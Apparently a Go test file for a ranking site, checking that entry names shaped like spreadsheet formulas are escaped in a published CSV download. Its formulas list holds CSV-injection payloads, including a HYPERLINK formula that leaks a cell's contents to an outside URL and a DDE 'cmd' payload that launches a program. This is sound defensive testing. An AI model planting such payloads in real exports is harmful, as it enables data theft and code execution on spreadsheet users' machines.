package site_test

import (
	"encoding/csv"
	"net/http"
	"strconv"
	"strings"
	"testing"

	"github.com/crossrank/crossrank/domain"
	"github.com/crossrank/crossrank/domain/demo"
	"github.com/crossrank/crossrank/domain/rankfile"
	"github.com/crossrank/crossrank/events"
	"github.com/crossrank/crossrank/web/webtest"
)

// formulas are names a spreadsheet would run (OWASP's CSV injection).
// Names led by a tab or a carriage return, the other two, are refused at
// the door now (field.control_char); web/csvsafe's tests keep those cells
// escaped.
var formulas = []string{`=HYPERLINK("http://x?"&A1,"c")`, `+cmd|' /C calc'!A0`, `-2+3`, `@SUM(1)`}

// TestRankingCSVRunsNoFormula: entries named like formulas, imported from
// a ranking file, approved and published, download as cells that start
// with no formula character; the numbers stay numbers.
func TestRankingCSVRunsNoFormula(t *testing.T) {
	t.Parallel()
	e := webtest.NewAdmin(t)
	const slug = "formulas"
	f := demo.File()
	f.Slug = slug
	for i, name := range formulas {
		f.Entries[i].Name.En = name
	}
	ed := domain.Actor{Name: "ed", Roles: []string{domain.RoleEditor}, Via: events.Via{Method: events.ViaCLI}}
	rep, err := rankfile.Import(e.Ctx, e.Cmd, f, ed)
	if err != nil {
		t.Fatalf("import: %v", err)
	}
	ids := append([]string{rep.Definition}, rep.Proposals...)
	for _, id := range ids {
		p, err := e.Cmd.Proposal(e.Ctx, id)
		if err != nil {
			t.Fatal(err)
		}
		for _, v := range []string{"rev", "rex"} {
			if _, err := e.Cmd.CastVote(e.Ctx, domain.Actor{Name: v, Roles: []string{domain.RoleReviewer}},
				domain.CastVote{Proposal: id, Revision: p.Revision, Verdict: events.Approve, VerifiedEvidence: p.EvidenceIDs()}); err != nil {
				t.Fatalf("%s approves %s: %v", v, id, err)
			}
		}
	}
	pv, _, err := e.Cmd.PreviewEdition(e.Ctx, slug, ids)
	if err != nil {
		t.Fatal(err)
	}
	e.CaughtUp()
	head, seq, err := e.Read.AuditHead(e.Ctx)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := e.Cmd.Publish(e.Ctx, domain.Actor{Name: "pat", Roles: []string{domain.RolePublisher}}, domain.PublishEdition{
		Ranking: slug, Proposals: ids, PreviewHash: pv.Hash, AuditHead: head, AuditSeq: seq}); err != nil {
		t.Fatal(err)
	}
	e.CaughtUp()

	res, body := e.Client("").Do(http.MethodGet, "/r/"+slug+"/editions/1/ranking.csv", nil, nil)
	if res.StatusCode != http.StatusOK {
		t.Fatalf("ranking.csv: status %d; %.300s", res.StatusCode, body)
	}
	r := csv.NewReader(strings.NewReader(body))
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	for i, row := range rows {
		for j, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("row %d column %s starts with a bare formula character: %q", i, rows[0][j], cell)
			}
		}
		if i == 0 {
			continue
		}
		seen[strings.TrimPrefix(row[2], "'")] = true // (encoding/csv reads a quoted CR as nothing)
		// Numbers stay numbers: ranks and weights are positive and scores
		// 0–10 (the domain refuses a negative score: "score below 0" in
		// domain/proposal_test.go), so no number cell is ever guarded.
		for _, j := range []int{0, 6, 7} {
			if n, err := strconv.Atoi(row[j]); (err != nil && row[j] != "") || n < 0 {
				t.Errorf("row %d column %s = %q, want a number ≥ 0", i, rows[0][j], row[j])
			}
		}
	}
	for _, name := range formulas {
		if !seen[strings.ReplaceAll(name, "\r", "")] {
			t.Errorf("the entry named %q is not in the file (quoted)", name)
		}
	}
}
